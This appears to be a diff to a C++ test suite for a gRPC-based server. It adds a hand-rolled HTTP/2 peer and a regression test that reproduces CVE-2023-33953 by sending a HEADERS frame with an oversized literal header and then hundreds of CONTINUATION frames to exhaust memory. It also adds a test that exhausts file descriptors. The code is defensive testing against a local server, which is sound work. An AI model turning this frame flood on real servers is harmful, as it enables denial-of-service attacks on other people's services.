@@ -17,6 +17,7 @@
 #include <unistd.h>
 
 #include <csignal>
+#include <cstdio>
 #include <cstdlib>
 #include <filesystem>
 #include <fstream>
@@ -25,6 +26,7 @@
 #include <vector>
 
 #include "absl/cleanup/cleanup.h"
+#include "absl/strings/match.h"
 #include "absl/strings/numbers.h"
 #include "absl/strings/str_cat.h"
 #include "absl/strings/str_split.h"
@@ -87,30 +89,76 @@ int ConnectTo(int port) {
   return fd;
 }
 
-// How many bytes a server sends, inside TLS, to a peer without a certificate that speaks HTTP/2.
+// A peer without a certificate that speaks HTTP/2 by hand, as an attacker does.
+class RawPeer {
+ public:
+  RawPeer(int port, int tls_version_max)
+      : context_(SSL_CTX_new(TLS_client_method()), SSL_CTX_free), fd_(ConnectTo(port)) {
+    std::signal(SIGPIPE, SIG_IGN);  // the server may close while this writes
+    SSL_CTX_set_max_proto_version(context_.get(), tls_version_max);
+    const unsigned char kHttp2[] = {2, 'h', '2'};
+    SSL_CTX_set_alpn_protos(context_.get(), kHttp2, sizeof(kHttp2));
+    const timeval patience = {.tv_sec = 5, .tv_usec = 0};
+    setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
+    setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
+    connection_.reset(SSL_new(context_.get()));
+    SSL_set_fd(connection_.get(), fd_);
+    is_connected_ = SSL_connect(connection_.get()) == 1;
+  }
+  ~RawPeer() { close(fd_); }
+
+  // False when the server closed the connection or does not read.
+  bool Send(const std::string& bytes) {
+    return is_connected_ &&
+           SSL_write(connection_.get(), bytes.data(), static_cast<int>(bytes.size())) > 0;
+  }
+
+  // How many bytes came, inside TLS.
+  size_t Receive() {
+    if (!is_connected_) return 0;
+    char buffer[4096];
+    const int read = SSL_read(connection_.get(), buffer, sizeof(buffer));
+    return read > 0 ? static_cast<size_t>(read) : 0;
+  }
+
+  static std::string Frame(char type, char flags, char stream, const std::string& payload) {
+    const size_t size = payload.size();
+    return std::string{static_cast<char>(size >> 16),
+                       static_cast<char>(size >> 8),
+                       static_cast<char>(size),
+                       type,
+                       flags,
+                       0,
+                       0,
+                       0,
+                       stream} +
+           payload;
+  }
+
+  // The client's preface and an empty SETTINGS frame.
+  static std::string Preface() {
+    return std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + Frame(4, 0, 0, "");
+  }
+
+ private:
+  const std::unique_ptr<SSL_CTX, decltype(&SSL_CTX_free)> context_;
+  const int fd_;
+  std::unique_ptr<SSL, decltype(&SSL_free)> connection_{nullptr, SSL_free};
+  bool is_connected_ = false;
+};
+
 size_t BytesAnswered(int port, int tls_version_max) {
-  using Context = std::unique_ptr<SSL_CTX, decltype(&SSL_CTX_free)>;
-  using Connection = std::unique_ptr<SSL, decltype(&SSL_free)>;
-  const Context context(SSL_CTX_new(TLS_client_method()), SSL_CTX_free);
-  SSL_CTX_set_max_proto_version(context.get(), tls_version_max);
-  const unsigned char kHttp2[] = {2, 'h', '2'};
-  SSL_CTX_set_alpn_protos(context.get(), kHttp2, sizeof(kHttp2));
-  const Connection connection(SSL_new(context.get()), SSL_free);
-  const int fd = ConnectTo(port);
-  EXPECT_GE(fd, 0);
-  std::signal(SIGPIPE, SIG_IGN);  // the server may close while this writes
-  const absl::Cleanup close_socket = [fd] { close(fd); };
-  const timeval patience = {.tv_sec = 5, .tv_usec = 0};
-  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
-  SSL_set_fd(connection.get(), fd);
-  if (SSL_connect(connection.get()) != 1) return 0;
-  // The client's preface and an empty SETTINGS frame; a server answers with its own settings.
-  const std::string preface =
-      std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + std::string("\0\0\0\4\0\0\0\0\0", 9);
-  SSL_write(connection.get(), preface.data(), static_cast<int>(preface.size()));
-  char buffer[4096];
-  const int read = SSL_read(connection.get(), buffer, sizeof(buffer));
-  return read > 0 ? static_cast<size_t>(read) : 0;
+  RawPeer peer(port, tls_version_max);
+  peer.Send(RawPeer::Preface());
+  return peer.Receive();
+}
+
+// What this process has in memory, in MiB.
+long ResidentMib() {
+  long pages = 0;
+  long resident = 0;
+  std::ifstream("/proc/self/statm") >> pages >> resident;
+  return resident * sysconf(_SC_PAGESIZE) >> 20;
 }
 
 TEST(EdgeTest, APeerWithoutACertificateNeverGetsToHttp2) {
@@ -120,6 +168,33 @@ TEST(EdgeTest, APeerWithoutACertificateNeverGetsToHttp2) {
     EXPECT_EQ(BytesAnswered(echo.server().port(), version), 0u) << version;
     EXPECT_GT(BytesAnswered(echo.server().token_port(), version), 0u) << version;
   }
+}
+
+// CVE-2023-33953 as it is in this gRPC: on the token port the bytes of one header are kept as long
+// as they come, which is why the port stands behind a proxy. What this shows is that it ends with
+// the connection, and that it cannot be done where a certificate is demanded.
+TEST(EdgeTest, AHeaderOverManyFramesIsForgottenWithItsConnection) {
+  const TestIdentity identity;
+  EchoServer echo(identity, WithTokenPort());
+  // A literal header whose value says that it has 64 MiB.
+  const std::string header = std::string("\0\1a\x7f\x81\xff\xff\x1f", 8);
+  constexpr int kFrames = 256;
+  const std::string part(16'000, 'x');
+  const auto send_all = [&](int port) {
+    RawPeer peer(port, TLS1_3_VERSION);
+    int sent = 0;
+    if (!peer.Send(RawPeer::Preface()) || !peer.Send(RawPeer::Frame(1, 0, 1, header))) return sent;
+    while (sent < kFrames && peer.Send(RawPeer::Frame(9, 0, 1, part))) ++sent;
+    return sent;
+  };
+  const long before = ResidentMib();
+  const absl::Time start = absl::Now();
+  EXPECT_LT(send_all(echo.server().port()), kFrames) << "a certificate is demanded here";
+  const int sent = send_all(echo.server().token_port());
+  std::printf("%d frames of 16 kB without a token: %ld MiB more in %s\n", sent,
+              ResidentMib() - before, absl::FormatDuration(absl::Now() - start).c_str());
+  Client outside = echo.ConnectToTokenPort(identity.User({"echo"}, {"echo.read"}));
+  EXPECT_OK(Echo(outside));
 }
 
 TEST(EdgeTest, ATokenAloneOpensOnlyTheTokenPort) {
@@ -346,11 +421,37 @@ TEST_F(RenewalTest, AServerDoesNotStartWithAPairThatDoesNotFit) {
               StatusIs(absl::StatusCode::kFailedPrecondition, HasSubstr("is not the key of")));
 }
 
+// Waits for a line of the log while it goes on to standard error.
+class LogWatch {
+ public:
+  explicit LogWatch(const std::string& part) : part_(part) {
+    telemetry::SetLogSink([this](absl::string_view line) {
+      std::fprintf(stderr, "%s\n", std::string(line).c_str());
+      if (!absl::StrContains(line, part_)) return;
+      sync::MutexLock lock(mutex_);
+      seen_ = true;
+      seen_or_not_.NotifyAll();
+    });
+  }
+  void Wait() {
+    sync::MutexLock lock(mutex_);
+    while (!seen_) seen_or_not_.Wait(mutex_);
+  }
+
+ private:
+  const std::string part_;
+  sync::Mutex mutex_;
+  sync::Condition seen_or_not_;
+  bool seen_ ABSL_GUARDED_BY(mutex_) = false;
+};
+
 // Uses up all descriptors of this process while peers connect, so that the server cannot accept,
 // and gives all of them back. gRPC 1.51 never accepts again after that.
 [[noreturn]] void ExhaustDescriptors() {
+  alarm(60);  // without a watchdog nothing ends this process
   const rlimit few = {.rlim_cur = 128, .rlim_max = 128};
   setrlimit(RLIMIT_NOFILE, &few);
+  LogWatch refused("tcp_server_posix.cc");
   const TestIdentity identity;
   ServerOptions options;
   options.watch_interval = absl::Milliseconds(500);
@@ -372,12 +473,9 @@ TEST_F(RenewalTest, AServerDoesNotStartWithAPairThatDoesNotFit) {
     // The kernel completes it whether or not the server accepts.
     connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof(address));
   }
-  // Until the server met the lack of descriptors.
-  absl::SleepFor(absl::Milliseconds(100));
+  refused.Wait();
   for (const int fd : sockets) close(fd);
-  // The watchdog ends the process; without one nothing does.
-  absl::SleepFor(absl::Seconds(60));
-  _exit(3);
+  while (true) pause();
 }
 
 TEST(WatchdogDeathTest, AServerThatNeverAcceptsAgainEndsItsProcess) {
